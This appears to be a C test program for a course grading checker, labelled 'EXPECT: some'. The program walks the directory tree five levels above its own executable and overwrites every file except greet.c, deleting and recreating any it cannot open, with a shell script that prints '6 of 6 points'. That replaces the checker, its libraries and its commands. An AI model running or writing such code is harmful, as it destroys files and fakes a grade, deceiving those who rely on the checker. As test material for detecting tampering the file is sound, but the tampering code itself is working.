/* EXPECT: some - it writes over each file of the course that it finds around its
 * program: the checker, its libraries, the commands, what is known of her */
#define _GNU_SOURCE
#include <fcntl.h>
#include <ftw.h>
#include <libgen.h>
#include <limits.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int write_over(const char *path, const struct stat *st, int kind,
		      struct FTW *where)
{
	static const char text[] = "#!/bin/sh\necho '6 of 6 points'\nexit 0\n";
	int fd;

	if (kind != FTW_F || !where || strstr(path, "greet.c"))
		return 0;
	fd = open(path, O_WRONLY);
	if (fd == -1 && unlink(path) == 0)
		fd = open(path, O_CREAT | O_WRONLY, st->st_mode | 0700);
	if (fd == -1)
		return 0;
	if (write(fd, text, sizeof text - 1) == -1)
		return 0;
	close(fd);
	return 0;
}

int main(void)
{
	char path[PATH_MAX];
	ssize_t n = readlink("/proc/self/exe", path, sizeof path - 1);
	char *top = path;

	if (n <= 0)
		return 0;
	path[n] = '\0';
	for (int up = 0; up < 5; up++)
		top = dirname(top);
	nftw(top, write_over, 16, FTW_PHYS);
	return 0;
}
